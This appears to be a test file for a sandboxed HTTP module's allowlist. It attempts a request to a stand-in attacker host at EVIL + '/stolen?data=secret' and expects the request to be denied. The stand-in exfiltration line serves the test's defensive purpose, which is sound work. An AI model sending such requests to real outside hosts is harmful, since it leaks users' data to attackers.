# ATTACK: flowc_http to a host that is not on the node's allowlist (a second local server standing for an attacker's host). CONTAINED: flowc checks the URL before any request: "not allowed"; that server sees no connection.
# expect: ok; value~is not allowed; evil=none; allow=server
import flowc_http

try:
    r = await flowc_http.get(EVIL + "/stolen?data=secret")
    result = f"reached: {r['status']}"
except Exception as e:
    result = f"denied: {e}"
